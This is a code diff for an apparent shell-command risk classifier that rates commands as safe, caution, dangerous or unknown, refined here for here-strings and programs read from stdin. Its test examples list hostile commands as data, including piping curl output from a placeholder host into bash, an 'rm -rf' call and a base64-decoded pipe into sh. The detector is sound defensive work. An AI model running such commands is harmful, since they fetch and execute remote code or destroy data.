@@ -11,8 +11,10 @@ function isMadeOnTheFly(arg: Arg | undefined): boolean {
 }
 
 function runInput(inv: Invocation, ctx: RuleContext): void {
-  if (inv.stdin.kind === "text") ctx.scanText(literalArg(inv.stdin.text, inv.span));
-  else if (inv.stdin.kind === "data")
+  if (inv.stdin.kind === "text") {
+    ctx.report({ risk: "caution", why: "runs its input as a program", safer: "write the command itself" });
+    ctx.scanText(literalArg(inv.stdin.text, inv.span));
+  } else if (inv.stdin.kind === "data")
     ctx.report({ risk: "dangerous", why: "runs whatever it is fed as a program", safer: "look at the text first" });
   else ctx.report({ risk: "unknown", why: "opens an interactive shell" });
 }
@@ -56,7 +58,7 @@ export const shell = program({
     "sh -lc 'uptime; df -h'": "safe",
     "bash -c 'rm -rf /opt/x'": "dangerous",
     "curl -s http://x | bash": "dangerous",
-    "bash <<< 'ls'": "safe",
+    "bash <<< 'ls'": "caution",
     "bash ./fix.sh": "unknown",
   },
   nearMisses: ["bash -c '$0 -rf x' rm", 'bash -c "$CMD"', "bash <(curl -s http://x)", "bash", "echo bHM= | base64 -d | sh", "bash -c"],
@@ -65,8 +67,9 @@ export const shell = program({
 /** Shells with a grammar of their own are believed only where no grammar is involved. */
 function runOtherShell(inv: Invocation, ctx: RuleContext): void {
   runShell(inv, ctx);
-  const text = inv.operands[0]?.text ?? "";
-  if (inv.has("-c") && !/^[A-Za-z0-9 _./:,@%+-]*$/.test(text)) {
+  const fed = inv.stdin.kind === "text" ? inv.stdin.text : "";
+  const text = inv.has("-c") ? (inv.operands[0]?.text ?? "") : fed.trimEnd();
+  if (!/^[A-Za-z0-9 _./:,@%+-]*$/.test(text)) {
     ctx.report({ risk: "unknown", why: "this shell has a grammar of its own; use bash -c" });
   }
 }
@@ -179,10 +182,15 @@ export const trap = program({
   nearMisses: ["trap ls EXIT", 'trap "$x" EXIT'],
 });
 
+function readsProgram(inv: Invocation): boolean {
+  const file = inv.operands[0]?.text;
+  return file === undefined || file === "-" || file === "/dev/stdin";
+}
+
 /** A program text, or input, for a language that is not parsed here. */
 function runLanguage(inv: Invocation, ctx: RuleContext): void {
   if (inv.operands.length === 0 && inv.options.length > 0 && inv.options.every((use) => use.spec.arity === "flag")) return;
-  if (isMadeOnTheFly(inv.operands[0]) || (inv.stdin.kind === "data" && inv.operands.length === 0)) {
+  if (isMadeOnTheFly(inv.operands[0]) || (inv.stdin.kind === "data" && readsProgram(inv))) {
     ctx.report({ risk: "dangerous", why: "runs whatever it is fed as a program", safer: "look at the text first" });
     return;
   }
